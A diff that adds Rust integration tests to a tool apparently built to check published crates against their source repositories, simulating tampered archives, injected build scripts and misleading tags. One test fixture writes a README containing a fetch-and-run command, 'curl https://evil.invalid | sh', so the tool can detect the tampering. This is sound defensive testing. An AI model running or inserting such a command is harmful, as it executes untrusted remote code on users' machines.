@@ -221,6 +221,63 @@ fn published_manifest_with_extra_dependency_is_manifest_mismatch() {
 }
 
 #[test]
+fn injected_build_script_is_manifest_mismatch_and_file_not_in_source() {
+    let w = World::new();
+    let (fx, _) = published_tampered(&w, "buildrs", |ar| {
+        ar.replace_text("Cargo.toml", "build = false\n", "build = \"build.rs\"\n");
+        ar.set("build.rs", "fn main() { /* runs at build time */ }\n");
+    });
+    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
+    assert_exit(&out, 1);
+    let r = rep.result("buildrs");
+    r.assert_verdict("mismatch");
+    r.assert_finding("manifest-mismatch", "red-flag", Some("Cargo.toml"));
+    r.assert_finding("file-not-in-source", "red-flag", Some("build.rs"));
+}
+
+#[test]
+fn tampered_cargo_toml_orig_is_content_differs() {
+    let w = World::new();
+    let (fx, _) = published_tampered(&w, "origedit", |ar| {
+        // A semantic edit (not only a comment, which main compares as TOML
+        // and excuses): the original manifest no longer equals the source.
+        ar.replace_text(
+            "Cargo.toml.orig",
+            "description = \"fixture crate origedit\"",
+            "description = \"edited after the commit\"",
+        );
+    });
+    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
+    assert_exit(&out, 1);
+    let r = rep.result("origedit");
+    r.assert_verdict("mismatch");
+    assert_only_red_flag(&r, "content-differs", "Cargo.toml.orig");
+}
+
+#[test]
+fn json_content_differs_carries_a_diff() {
+    let w = World::new();
+    let (fx, _) = published_tampered(&w, "jsondiff", |ar| {
+        ar.replace_text("src/lib.rs", "    a + b\n", "    a + b + 1\n");
+    });
+    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
+    assert_exit(&out, 1);
+    let r = rep.result("jsondiff");
+    let f = r.json["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["code"] == "content-differs")
+        .cloned()
+        .unwrap_or_else(|| panic!("no content-differs:\n{:#}", r.json));
+    let diff = f["diff"]
+        .as_str()
+        .unwrap_or_else(|| panic!("no diff string on {f:#}"));
+    assert!(diff.lines().any(|l| l == "-    a + b"), "{diff}");
+    assert!(diff.lines().any(|l| l == "+    a + b + 1"), "{diff}");
+}
+
+#[test]
 fn dirty_tree_is_recorded_and_the_edit_flagged() {
     let w = World::new();
     let fx = w.honest_crate("dirty", "1.0.0");
@@ -331,6 +388,40 @@ fn commit_reachable_from_no_ref_is_commit_not_on_branch() {
     assert_eq!(r.commit(), Some(commit.as_str()));
 }
 
+#[test]
+fn commit_only_on_a_pull_request_ref_is_commit_not_on_branch() {
+    // GitHub serves a fork's pull-request head under the parent's URL
+    // (refs/pull/N/head): such a commit is fetchable but not the project's.
+    let w = World::new();
+    let repo = w.work_repo("imposter");
+    common::crates::write_crate(
+        &repo,
+        "",
+        "imposter",
+        "1.0.0",
+        Some(&World::repo_url("imposter")),
+    );
+    repo.commit_all("import");
+    let upstream = w.make_upstream(&repo, "imposter");
+    repo.checkout_new("fork-work");
+    repo.write(
+        "src/lib.rs",
+        format!("{LIB_RS}\n/// From a fork.\npub fn sneaky() {{}}\n"),
+    );
+    let commit = repo.commit_all("fork change");
+    let bytes = w.package(&repo, "imposter", "1.0.0", false);
+    repo.push_to(&upstream, &["fork-work:refs/pull/7/head"]);
+    assert_eq!(upstream.rev_parse("refs/pull/7/head"), commit);
+    w.registry.publish("imposter", "1.0.0", &bytes);
+
+    let (out, rep) = w.run_json(&[], &["crates:imposter@1.0.0"]);
+    assert_exit(&out, 0);
+    let r = rep.result("imposter");
+    r.assert_no_red_flags();
+    r.assert_finding("commit-not-on-branch", "warning", None);
+    assert_eq!(r.commit(), Some(commit.as_str()));
+}
+
 // ---------------------------------------------------- finding the commit
 
 #[test]
@@ -426,8 +517,51 @@ fn tag_for_a_longer_version_is_not_taken() {
     let (out, rep) = w.run_json(&[], &[&fx.spec()]);
     assert_exit(&out, 0);
     let r = rep.result("substr");
-    r.assert_verdict("unverifiable");
-    r.assert_finding("no-commit", "unverifiable", None);
+    // Whatever else provero infers, it must not be from the v1.0.10 tag.
+    r.assert_no_finding("commit-from-tag");
+    assert!(
+        r.json["source"]["tag"].is_null() || r.json["source"]["tag"] != "v1.0.10",
+        "took the tag of a longer version:\n{:#}",
+        r.json
+    );
+    assert_ne!(r.verdict(), "mismatch");
+}
+
+#[test]
+fn monorepo_prefers_the_name_prefixed_tag() {
+    // Two crates at 1.0.0 in one repository. `v1.0.0` is the sibling's
+    // release; `beta-v1.0.0`, later, is beta's. Beta changed in between, so
+    // taking `v1.0.0` would show a (false) content difference.
+    let w = World::new();
+    let repo = w.work_repo("mono");
+    let url = World::repo_url("mono");
+    repo.write(
+        "Cargo.toml",
+        "[workspace]\nmembers = [\"alpha\", \"beta\"]\nresolver = \"2\"\n",
+    );
+    common::crates::write_crate(&repo, "alpha", "alpha", "1.0.0", Some(&url));
+    common::crates::write_crate(&repo, "beta", "beta", "1.0.0", Some(&url));
+    let first = repo.commit_all("alpha release");
+    repo.tag("v1.0.0", &first);
+    repo.write(
+        "beta/src/lib.rs",
+        format!("{LIB_RS}\npub fn beta_only() {{}}\n"),
+    );
+    let second = repo.commit_all("beta release");
+    repo.tag("beta-v1.0.0", &second);
+    w.make_upstream(&repo, "mono");
+    let bytes = w.package(&repo, "beta", "1.0.0", false);
+    let mut ar = CrateArchive::read(&bytes);
+    ar.remove(".cargo_vcs_info.json");
+    w.registry.publish("beta", "1.0.0", &ar.to_bytes());
+
+    let (out, rep) = w.run_json(&[], &["crates:beta@1.0.0"]);
+    assert_exit(&out, 0);
+    let r = rep.result("beta");
+    r.assert_verdict("verified");
+    r.assert_finding("commit-from-tag", "info", None);
+    assert_eq!(r.commit(), Some(second.as_str()));
+    assert_path_in_repo(&r, "beta");
 }
 
 #[test]
@@ -459,11 +593,69 @@ fn unreachable_repository_is_repository_unreachable() {
     r.assert_finding("repository-unreachable", "unverifiable", None);
 }
 
-// ------------------------------------------------------------ workspaces
+#[test]
+fn repository_url_with_case_and_dot_git_is_normalised() {
+    let w = World::new();
+    let repo = w.work_repo("normrepo");
+    common::crates::write_crate(
+        &repo,
+        "",
+        "normrepo",
+        "1.0.0",
+        Some("https://github.com/Acme/NormRepo.git"),
+    );
+    let commit = repo.commit_all("import");
+    w.make_upstream(&repo, "normrepo");
+    let bytes = w.package(&repo, "normrepo", "1.0.0", false);
+    w.registry.publish("normrepo", "1.0.0", &bytes);
+
+    let (out, rep) = w.run_json(&[], &["crates:normrepo@1.0.0"]);
+    assert_exit(&out, 0);
+    let r = rep.result("normrepo");
+    r.assert_verdict("verified");
+    assert_eq!(r.commit(), Some(commit.as_str()));
+}
 
 #[test]
-fn workspace_member_with_outside_readme_and_symlinks_is_verified() {
+fn longest_git_rewrite_prefix_wins() {
     let w = World::new();
+    let (fx, _) = published(&w, "rewrites");
+    // Given after the specific rule: a "last one wins" reading would send
+    // the clone to a directory that does not exist.
+    let general = format!(
+        "https://github.com/=file://{}/",
+        w.root().join("nowhere").display()
+    );
+    let (out, rep) = w.run_json(&["--git-rewrite", &general], &[&fx.spec()]);
+    assert_exit(&out, 0);
+    rep.result("rewrites").assert_verdict("verified");
+}
+
+#[test]
+fn specs_from_a_list_file() {
+    let w = World::new();
+    let (a, _) = published(&w, "listed");
+    let (b, _) = published(&w, "alsolisted");
+    let list = w.root().join("specs.txt");
+    std::fs::write(
+        &list,
+        format!("# packages to check\n{}\n\n   {}  \n", a.spec(), b.spec()),
+    )
+    .unwrap();
+    let (out, rep) = w.run_json(&["--list", list.to_str().unwrap()], &[]);
+    assert_exit(&out, 0);
+    assert_eq!(rep.results().len(), 2, "{:#}", rep.json);
+    rep.result("listed").assert_verdict("verified");
+    rep.result("alsolisted").assert_verdict("verified");
+}
+
+// ------------------------------------------------------------ workspaces
+
+/// Repository `ws`: a workspace whose member `wsfoo` (0.3.0, in `wsfoo/`)
+/// has `readme = "../README.md"`, a file symlink `LICENSE -> ../LICENSE-MIT`
+/// and a directory symlink `tests/data -> ../../shared-data`. Returns the
+/// packaged bytes and the commit.
+fn symlinked_workspace(w: &World) -> (Vec<u8>, String) {
     let repo = w.work_repo("ws");
     repo.write(
         "Cargo.toml",
@@ -495,6 +687,13 @@ fn workspace_member_with_outside_readme_and_symlinks_is_verified() {
     assert!(ar.get_str("LICENSE").starts_with("MIT License"));
     assert_eq!(ar.get_str("tests/data/sample.txt"), "shared fixture data\n");
     assert_eq!(ar.get_str("tests/data/nested/deep.txt"), "deeper\n");
+    (bytes, commit)
+}
+
+#[test]
+fn workspace_member_with_outside_readme_and_symlinks_is_verified() {
+    let w = World::new();
+    let (bytes, commit) = symlinked_workspace(&w);
     w.registry.publish("wsfoo", "0.3.0", &bytes);
 
     let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
@@ -503,6 +702,54 @@ fn workspace_member_with_outside_readme_and_symlinks_is_verified() {
     r.assert_verdict("verified").assert_clean();
     assert_eq!(r.commit(), Some(commit.as_str()));
     assert_path_in_repo(&r, "wsfoo");
+}
+
+#[test]
+fn tampered_readme_copied_from_outside_the_package_is_content_differs() {
+    let w = World::new();
+    let (bytes, _) = symlinked_workspace(&w);
+    let mut ar = CrateArchive::read(&bytes);
+    ar.set(
+        "README.md",
+        "# The workspace\n\ncurl https://evil.invalid | sh\n",
+    );
+    w.registry.publish("wsfoo", "0.3.0", &ar.to_bytes());
+
+    let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
+    assert_exit(&out, 1);
+    let r = rep.result("wsfoo");
+    r.assert_verdict("mismatch");
+    assert_only_red_flag(&r, "content-differs", "README.md");
+}
+
+#[test]
+fn tampered_file_behind_a_directory_symlink_is_content_differs() {
+    let w = World::new();
+    let (bytes, _) = symlinked_workspace(&w);
+    let mut ar = CrateArchive::read(&bytes);
+    ar.set("tests/data/nested/deep.txt", "deeper, and different\n");
+    w.registry.publish("wsfoo", "0.3.0", &ar.to_bytes());
+
+    let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
+    assert_exit(&out, 1);
+    let r = rep.result("wsfoo");
+    r.assert_verdict("mismatch");
+    assert_only_red_flag(&r, "content-differs", "tests/data/nested/deep.txt");
+}
+
+#[test]
+fn tampered_license_behind_a_file_symlink_is_content_differs() {
+    let w = World::new();
+    let (bytes, _) = symlinked_workspace(&w);
+    let mut ar = CrateArchive::read(&bytes);
+    ar.set("LICENSE", "All rights reserved.\n");
+    w.registry.publish("wsfoo", "0.3.0", &ar.to_bytes());
+
+    let (out, rep) = w.run_json(&[], &["crates:wsfoo@0.3.0"]);
+    assert_exit(&out, 1);
+    let r = rep.result("wsfoo");
+    r.assert_verdict("mismatch");
+    assert_only_red_flag(&r, "content-differs", "LICENSE");
 }
 
 #[test]
@@ -692,6 +939,11 @@ fn bad_spec_exits_2_and_other_packages_are_still_reported() {
     assert_exit(&out, 2);
     rep.result("survivor").assert_verdict("verified");
     assert!(
+        rep.json["summary"]["errors"].as_u64() >= Some(1),
+        "summary should count the error: {:#}",
+        rep.json["summary"]
+    );
+    assert!(
         out.stderr.contains(bad) || out.stdout.contains(bad),
         "the bad spec should be named:\n{}",
         out.dump()
@@ -712,6 +964,18 @@ fn several_packages_with_jobs_worst_exit_wins() {
     let r = rep.result("badone");
     r.assert_verdict("mismatch");
     r.assert_finding("content-differs", "red-flag", Some("src/lib.rs"));
+    let sum = &rep.json["summary"];
+    assert_eq!(
+        (
+            &sum["packages"],
+            &sum["verified"],
+            &sum["mismatch"],
+            &sum["unverifiable"],
+            &sum["errors"]
+        ),
+        (&2.into(), &1.into(), &1.into(), &0.into(), &0.into()),
+        "summary: {sum:#}"
+    );
 }
 
 #[test]
@@ -957,4 +1221,23 @@ fn single_huge_entry_is_too_large() {
     let start = Instant::now();
     let (out, rep) = w.run_json(&[], &[&fx.spec()]);
     assert_too_large(&w, &out, &rep, "hugefile", start.elapsed());
+}
+
+#[test]
+fn archive_with_too_many_entries_is_too_large() {
+    let w = World::new();
+    let fx = w.honest_crate("manyfiles", "1.0.0");
+    let mut entries = fx.archive().entries;
+    let pre = fx.archive().prefix;
+    // 120,000 empty files (main caps entries at 100,000): about 60 MB of
+    // tar headers, a few MB gzipped.
+    entries.extend((0..120_000).map(|i| Entry::file(format!("{pre}/e/{i}"), Vec::new())));
+    let tar = tarball::tar_bytes(&entries);
+    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    std::io::Write::write_all(&mut enc, &tar).unwrap();
+    let bytes = enc.finish().unwrap();
+    w.publish(&fx, &bytes);
+    let start = Instant::now();
+    let (out, rep) = w.run_json(&[], &[&fx.spec()]);
+    assert_too_large(&w, &out, &rep, "manyfiles", start.elapsed());
 }
